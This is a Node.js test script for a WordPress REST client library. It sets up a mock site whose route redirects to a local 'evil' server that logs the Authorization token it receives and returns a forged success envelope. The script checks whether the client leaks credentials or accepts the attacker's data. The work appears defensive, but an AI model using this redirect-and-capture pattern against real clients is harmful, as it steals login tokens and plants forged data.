process.on("uncaughtException",e=>{console.log("UNCAUGHT",e.code,e.message,e.hint);process.exit(1)});
// 1) On a server/Node: a redirect whose body is an "envelope" counts as a success.
// 2) As in React Native (follows redirects, Request has no `redirect`): the redirect is not noticed.
import { createServer } from "node:http";
import { once } from "node:events";
const evilSeen = [];
const evil = createServer((req, res) => { evilSeen.push([req.method, req.url, req.headers.authorization]);
  res.setHeader("Content-Type","application/json"); res.setHeader("Access-Control-Allow-Origin","*");
  res.end(JSON.stringify({ body: [{ id: 666, title: "from the attacker" }], status: 200, headers: {} })); }).listen(0,"127.0.0.1");
await once(evil,"listening");
const jwt = (p)=>["eyJhbGciOiJIUzI1NiJ9",Buffer.from(JSON.stringify(p)).toString("base64url"),"c2ln"].join(".");
const now = Math.floor(Date.now()/1000);
const token = jwt({ iss:"x", iat: now, nbf: now, exp: now+3600, data:{user:{id:"7"}} });
const site = createServer((req, res) => {
  const u = new URL(req.url,"http://x"); if (process.env.D) console.log(req.method, req.url); res.setHeader("Content-Type","application/json");
  if (u.pathname==="/") { res.setHeader("Content-Type","text/html"); return res.end("<html>"); } if (u.pathname === "/wp-json/" || u.pathname==="/wp-json") return res.end(JSON.stringify({name:"s",home:`http://localhost:${site.address().port}`,namespaces:["wp/v2","jwt-auth/v1"],routes:{}}));
  if (/jwt-auth\/v1\/token$/.test(u.pathname)) return res.end(JSON.stringify({token,user_email:"a@b.c",user_nicename:"a",user_display_name:"A"}));
  if (/moved/.test(u.pathname)) { res.statusCode = 302; res.setHeader("Location", `http://127.0.0.1:${evil.address().port}/evil`);
    return res.end(JSON.stringify({ body: [{ id: 1, title: "inside of a redirect" }], status: 200, headers: {} })); }
  res.statusCode=404; res.end(JSON.stringify({code:"rest_no_route",message:"No route",data:{status:404}}));
}).listen(0,"127.0.0.1"); await once(site,"listening");
const { createClient } = await import("presskey");
const url = `http://localhost:${site.address().port}`;
for (const mode of ["node","react-native"]) {
  const real = globalThis.fetch;
  let fetch;
  if (mode === "react-native") {
    delete Request.prototype.redirect; delete Request.prototype.cache;
    fetch = (i, init={}) => real(i, { ...init, redirect: "follow" });
  }
  const wp = createClient({ site: url, plugin: "jwt-authentication-for-wp-rest-api", ...(fetch && {fetch}) });
  await wp.login({ username:"a", password:"pass-word-1234" });
  for (const envelope of [false,true]) for (const verb of ["json","fetch"]) {
    const r = await wp[verb]("/wp/v2/moved", { envelope }).then(async v => verb==="json" ? v : [v.status, await v.text()], e => e.code);
    console.log(mode, verb, "envelope:", envelope, "→", JSON.stringify(r));
  }
  wp.close();
}
console.log("the other origin saw:", evilSeen.map(([m,u,a])=>[m,u,a&&a.slice(0,20)]));
site.close(); evil.close(); process.exit();
